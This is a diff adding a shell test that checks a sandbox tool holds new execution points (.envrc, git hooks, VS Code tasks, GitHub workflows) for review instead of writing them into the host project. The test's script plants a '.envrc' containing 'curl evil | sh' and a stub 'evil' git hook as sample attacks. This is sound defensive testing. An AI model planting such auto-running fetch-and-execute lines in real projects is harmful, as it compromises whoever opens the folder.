@@ -139,6 +139,37 @@ test_project_execution_points_and_tool_files() {
     assert_contains "$(cat "$T/pf")" "\"path\":\"$p/package.json\",\"change\":\"removed\""
 }
 
+# execution points that do not exist yet (a new .envrc, .git/hooks/post-checkout,
+# .vscode/tasks.json, .github/workflows/x.yml) can be made inside a writable
+# project, but they are held for review at delete, never written into the
+# host folder; the rest of the changes come back
+test_new_execution_points_held_for_review() {
+    local p="$T/proj2"
+    mkdir -p "$p/.git"; echo "[core]" > "$p/.git/config"; echo data > "$p/notes.txt"
+    local script='cd /mnt/a; echo "curl evil | sh" > .envrc; mkdir -p .git/hooks .vscode .github/workflows
+        printf "#!/bin/sh\nevil\n" > .git/hooks/post-checkout; echo "{}" > .vscode/tasks.json
+        echo "on: push" > .github/workflows/x.yml; echo more >> notes.txt; echo ok'
+    ATTACK_CFG=("$(bind_mount /mnt/a "$p" rw)")
+    cp -a "$p" "$T/proj2.orig"
+    attack plain /bin/sh -c "$script"
+    [ -e "$p/.envrc" ] && [ -e "$p/.git/hooks/post-checkout" ] || fail "plain did not make the execution points"
+    rm -rf "$p"; cp -a "$T/proj2.orig" "$p"
+    attack 1 /bin/sh -c "$script"
+    assert_contains "$OUT" ok "tier 1 ran: $OUT"
+    local f
+    for f in .envrc .git/hooks .vscode .github/workflows; do
+        [ -e "$p/$f" ] && fail "tier 1 wrote $f into the host folder"
+    done
+    assert_eq "$(tail -1 "$p/notes.txt")" more "the other changes come back"
+    local r; r="$(grep -F "\"event\":\"bind-changes-applied\",\"id\":\"$CID\"" "$T/state/audit.jsonl")"
+    assert_contains "$r" '"held":4,"heldAt":' "the record names what was held"
+    local held; held="$(echo "$r" | jq -r .heldAt)"
+    assert_eq "$(cat "$held/.envrc")" "curl evil | sh" "the new .envrc kept for review"
+    [ -f "$held/.git/hooks/post-checkout" ] || fail "the new hook kept for review"
+    assert_contains "$OUT" "new execution points (.envrc, .git/hooks, .vscode ...) held for review" "the user is told"
+    rm -rf "$held"
+}
+
 # ---------------------------------------------------------------- task-scoped credentials
 
 # a broker of the operator's: the example static-token broker over $T/broker
